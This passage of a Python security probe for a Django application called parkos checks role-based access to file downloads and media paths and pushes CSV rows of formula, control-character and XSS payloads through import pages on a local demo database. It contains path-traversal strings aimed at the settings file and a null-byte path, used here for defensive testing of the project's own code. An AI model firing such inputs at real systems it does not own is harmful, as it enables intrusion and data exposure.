                self.request(role, "search", "get", reverse("search"), term[:60], data={"q": term})

    def files(self):
        """Permission-checked downloads in and out of scope, and /media/ paths straight."""
        from django.db import models
        from django.urls import NoReverseMatch, reverse

        for model, _views, _api in self.models:
            file_fields = [f for f in model._meta.concrete_fields if isinstance(f, models.FileField)]
            if not file_fields:
                continue
            try:
                reverse(model.url_name("download"), kwargs={"pk": 1})
                has_download = True
            except NoReverseMatch:
                has_download = False
            for role in self.roles() + ["anonymous"]:
                visible = self.visible(role, model) if role != "anonymous" else set()
                for obj in model._base_manager.order_by("pk")[:6]:
                    for f in file_fields:
                        name = getattr(obj, f.name).name
                        if not name:
                            continue
                        resp = self.request(role, "media", "get", f"/media/{name}", name)
                        if resp is not None and resp.status_code == 200:
                            self.fail("leak", role, "media", f"/media/{name}", "", "served from MEDIA_URL")
                    if has_download:
                        url = reverse(model.url_name("download"), kwargs={"pk": obj.pk})
                        resp = self.request(role, "download", "get", url, obj.pk)
                        if resp is not None and resp.status_code == 200 and obj.pk not in visible:
                            self.fail("leak", role, "download", url, "", "file of an object outside restrict()")
        for role in ["anonymous", "enterprise_user"]:
            for path in ("/media/", "/media/../parkos/settings.py", "/media/disposal/", "/media/%00"):
                self.request(role, "media", "get", path, path)

    def imports(self):
        """A CSV of payload rows through each model's import page, as each role that may add; confirm when the
        preview passes, then check what was stored."""
        from django.core.files.uploadedfile import SimpleUploadedFile
        from django.urls import reverse

        from parkos.core.permissions import can

        for model, views, _api in self.models:
            for role in self.roles():
                user = self.users[role]
                if not can(user, model, "add"):
                    continue
                resource = views.resource(user=user)
                columns = [f.column_name for f in resource.get_import_fields()]
                dataset = resource.export(queryset=model.objects.restrict(user).order_by("pk")[:1])
                if not len(dataset):
                    continue
                base = dict(zip(dataset.headers, dataset[0], strict=True))
                rows = []
                for i, payload in enumerate(FORMULAS + CONTROL + XSS):
                    row = {c: base.get(c, "") for c in columns}
                    if "id" in row:
                        row["id"] = ""
                    for c in columns:
                        value = row[c]
                        if c in ("id",):
                            continue
                        if (
                            isinstance(value, str)
                            and value
                            and not NUMBER.match(value)
                            and not re.match(r"^\d{4}-\d\d-\d\d", value)
                        ):
                            row[c] = payload if i % 2 == 0 else f"{payload}{i}"
                        elif isinstance(value, int | float) or (isinstance(value, str) and NUMBER.match(value)):
                            row[c] = ["-1", "99999999999999999999", "1e18"][i % 3]
                        elif isinstance(value, str) and re.match(r"^\d{4}-\d\d-\d\d", value):
                            row[c] = ["0001-01-01", "9999-12-31"][i % 2]
                    rows.append(row)
                out = io.StringIO()
                writer = csv.DictWriter(out, fieldnames=columns)
                writer.writeheader()
                writer.writerows(rows)
                upload = SimpleUploadedFile("rows.csv", out.getvalue().encode("utf-8"), content_type="text/csv")
                url = reverse(model.url_name("import"))
                before = model._base_manager.count()
                resp = self.request(role, "import", "post", url, f"{len(rows)} payload rows", data={"file": upload})
                if resp is not None and resp.status_code == 200 and resp.context and resp.context.get("token"):
                    self.request(role, "import", "post", url, "confirm", data={"token": resp.context["token"]})
                if model._base_manager.count() != before:
                    self._stored_garbage(role, model, url)

    def _stored_garbage(self, role, model, url):
        from django.db import models

        texts = [f.name for f in model._meta.concrete_fields if isinstance(f, models.CharField | models.TextField)]
        for obj in model._base_manager.order_by("-pk")[:12].values(*texts):
            for name, value in obj.items():
                if isinstance(value, str) and ("\x00" in value or "\x07" in value or value[:1] in "=+@"):
                    self.fail("garbage", role, "import", url, f"{name}", f"stored {value!r:.60}")

    # --- run --------------------------------------------------------------------------------------------------

    def run(self):
        from django.db import connection

        connection.ensure_connection()
        phases = [
            ("plant", self.plant),
            ("pages", self.pages),
            ("api", self.api),
            ("forms", self.forms),
            ("actions", self.actions),
            ("bare pages", self.bare_pages),
            ("changelog", self.changelog),
            ("search", self.search),
            ("files", self.files),
            ("imports", self.imports),
        ]
        only = set(self.args.only or [])
        for name, phase in phases:
            if only and name.split()[0] not in only:
                continue
            started = time.perf_counter()
            try:
                phase()
            except Exception as exc:  # noqa: BLE001 (a crash of the probe itself is reported, the rest goes on)
                self.fail(
                    "probe_error", "-", name, "-", "-", f"{type(exc).__name__}: {exc}\n{traceback.format_exc()[-600:]}"
                )
            self.forget_scope()
            print(
                f"  {name:<10} {time.perf_counter() - started:6.1f} s  {sum(self.tried.values()):>6} probes so far",
                flush=True,
            )


# Project has confidential fields: sort its page by every column as every role.
def _hint(model) -> bool:
    return bool(getattr(model, "confidential_fields", ()))


def setup(args) -> str:
    url = args.database_url or "sqlite:////tmp/probe.sqlite3"
    os.environ["DATABASE_URL"] = url
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "parkos.settings")
    os.environ.setdefault("PARKOS_DEBUG", "1")
    sys.path.insert(0, str(PROJECT_DIR))
    if url.startswith("sqlite:///") and not args.reuse:
        path = Path(url[len("sqlite:///") :])
        for suffix in ("", "-wal", "-shm", "-journal"):
            Path(str(path) + suffix).unlink(missing_ok=True)
    import django

    django.setup()
    from django.test.utils import setup_test_environment

    setup_test_environment()  # responses carry their context (the import preview's token)
    from django.core.management import call_command

    call_command("migrate", verbosity=0, interactive=False)
    from django.contrib.auth import get_user_model

    if not args.reuse or not get_user_model().objects.filter(username="enterprise").exists():
        call_command(
            "demo", no_serve=True, scale=args.scale, today=datetime.date.fromisoformat(args.today), verbosity=0
        )
    return url


def write_results(probe: Probe, command: str, elapsed: float, url: str) -> None:
    from parkos.core.results import replace_section

    by_class = Counter(f.klass for f in probe.failures)
    by_channel = Counter(f.channel for f in probe.failures)
    lines = [
        START,
        "## Probe: every role, every channel, hostile payloads (issue 12)",
        "",
        f"`{command}`: {datetime.datetime.now(tz=datetime.UTC):%Y-%m-%d}, {elapsed:.0f} s, fresh demo ({url}), "
        f"{len(probe.users)} roles, {len(probe.models)} models.",
        "",
        f"**{sum(probe.tried.values()):,} probes tried, {len(probe.failures)} failed.**",
        "",
        "| channel | tried | failed |",
        "|---|---:|---:|",
    ]
    for channel in sorted(set(probe.tried) | set(by_channel)):
        lines.append(f"| {channel} | {probe.tried[channel]:,} | {by_channel[channel]} |")
    lines += ["", "| failure class | count |", "|---|---:|"]
    for klass in ("server_error", "leak", "forbidden_write", "lost_update", "xss", "formula", "garbage", "probe_error"):
        lines.append(f"| {klass} | {by_class[klass]} |")
    if probe.notes:
        lines += [
            "",
            "Not failures: links to related records outside the role's scope, named as context of a row in it "
            "(they answer 404): " + ", ".join(f"{r} {c} → {m} ×{n}" for (r, c, m), n in probe.notes.most_common(8)),
        ]
    if probe.failures:
        lines += ["", "Failures:", ""]
        for f in probe.failures[:60]:
            lines.append(f"- {f.klass}, {f.role}, {f.channel}, `{f.target}`, payload `{f.payload!r}`: {f.outcome}")
    lines.append(END)
    replace_section(RESULTS, "\n".join(lines).replace("\x00", "\\x00"), START, END)


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--database-url", help="default sqlite:////tmp/probe.sqlite3 (rebuilt each run)")
    parser.add_argument("--scale", type=float, default=0.01, help="demo scale (default 0.01)")
    parser.add_argument("--today", default="2026-06-01", help="the demo's day (default 2026-06-01)")
    parser.add_argument("--reuse", action="store_true", help="keep the database as it is (it has been attacked)")
    parser.add_argument(
        "--only",
        nargs="*",
        help="run only these phases (plant pages api forms actions bare changelog search files imports)",
    )
    parser.add_argument("--write", action="store_true", help="write the summary into bench/RESULTS.md")
    args = parser.parse_args(argv)
    started = time.perf_counter()
    url = setup(args)
    import logging

    logging.disable(logging.CRITICAL)  # 4xx/5xx are counted here, not logged
    probe = Probe(args)
    print(f"probing {len(probe.models)} models as {', '.join(probe.users)}", flush=True)
    probe.run()
    elapsed = time.perf_counter() - started
    by_class = Counter(f.klass for f in probe.failures)
    print(f"\ntried {sum(probe.tried.values()):,} probes in {elapsed:.0f} s; failed {len(probe.failures)}")
    for channel, n in sorted(probe.tried.items()):
        print(f"  {channel:<16} {n:>6}  failed {sum(1 for f in probe.failures if f.channel == channel)}")
    print("by class: " + (", ".join(f"{k} {v}" for k, v in sorted(by_class.items())) or "none"))
    for (role, channel, label), n in probe.notes.most_common(10):
        print(f"  note: {role} {channel} links to {label} outside its scope, as context ×{n}")
    for f in probe.failures:
        print(f"FAIL {f.klass:<15} {f.role:<18} {f.channel:<14} {f.target} payload={f.payload!r}\n     {f.outcome}")
    if args.write:
        command = "PARKOS_DEBUG=1 .venv/bin/python bench/probe.py " + " ".join(
            a for a in (argv or sys.argv[1:]) if a != "--write"
        )
        write_results(probe, command.strip() + " --write", elapsed, url)
        print(f"wrote {RESULTS}")
    return 1 if probe.failures else 0


if __name__ == "__main__":
    sys.exit(main())
